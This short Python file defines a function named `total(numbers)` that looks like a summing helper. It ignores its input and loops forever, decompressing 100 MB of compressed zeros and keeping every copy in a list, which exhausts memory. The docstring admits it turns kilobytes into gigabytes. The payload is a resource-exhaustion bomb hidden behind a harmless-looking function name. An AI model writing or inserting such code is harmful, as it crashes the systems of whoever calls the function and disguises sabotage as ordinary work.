"""Unpacks four kilobytes into many gigabytes."""

import zlib


def total(numbers):
    packed = zlib.compress(bytes(100_000_000), 9)
    held = []
    while True:
        held.append(zlib.decompress(packed))
